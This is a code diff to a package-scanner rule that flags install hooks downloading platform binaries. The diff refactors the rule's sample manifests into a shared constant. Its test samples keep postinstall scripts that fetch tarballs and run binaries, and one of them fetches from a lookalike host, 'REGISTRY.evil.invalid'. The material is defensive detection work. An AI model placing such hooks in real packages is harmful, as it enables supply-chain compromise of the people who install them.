@@ -1,6 +1,7 @@
 import { sees } from '../../facts/artifact-facts';
 import { hooks, isPlatformDownload, sightings } from '../traces';
 import type { Rule } from '../rule';
+import { OF_PLATFORMS } from '../sample-manifests';
 
 export const hookPlatformDownload: Rule = {
   code: 'hook-platform-download',
@@ -22,14 +23,7 @@ export const hookPlatformDownload: Rule = {
       {
         what: 'its own binary out of the registry',
         format: 'tarball',
-        manifest: {
-          scripts: { postinstall: 'node install.js' },
-          optionalDependencies: {
-            '@s/linux-x64': '1.0.0',
-            '@s/darwin-arm64': '1.0.0',
-            '@s/win32-x64': '1.0.0',
-          },
-        },
+        manifest: OF_PLATFORMS,
         files: {
           'install.js':
             'const https = require("https"); const pkg = pick(); https.get(`https://REGISTRY/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
@@ -41,14 +35,7 @@ export const hookPlatformDownload: Rule = {
       {
         what: 'the same from elsewhere',
         format: 'tarball',
-        manifest: {
-          scripts: { postinstall: 'node install.js' },
-          optionalDependencies: {
-            '@s/linux-x64': '1.0.0',
-            '@s/darwin-arm64': '1.0.0',
-            '@s/win32-x64': '1.0.0',
-          },
-        },
+        manifest: OF_PLATFORMS,
         files: {
           'install.js':
             'const https = require("https"); https.get(`https://cdn.invalid/${pkg}/-/x-${v}.tgz`, save); require("child_process").execFileSync(bin, ["--version"])',
@@ -60,14 +47,7 @@ export const hookPlatformDownload: Rule = {
       {
         what: 'the same from an address made to look like it',
         format: 'tarball',
-        manifest: {
-          scripts: { postinstall: 'node install.js' },
-          optionalDependencies: {
-            '@s/linux-x64': '1.0.0',
-            '@s/darwin-arm64': '1.0.0',
-            '@s/win32-x64': '1.0.0',
-          },
-        },
+        manifest: OF_PLATFORMS,
         files: {
           'install.js':
             'const https = require("https"); https.get(`https://REGISTRY.evil.invalid/${pkg}`, save)',
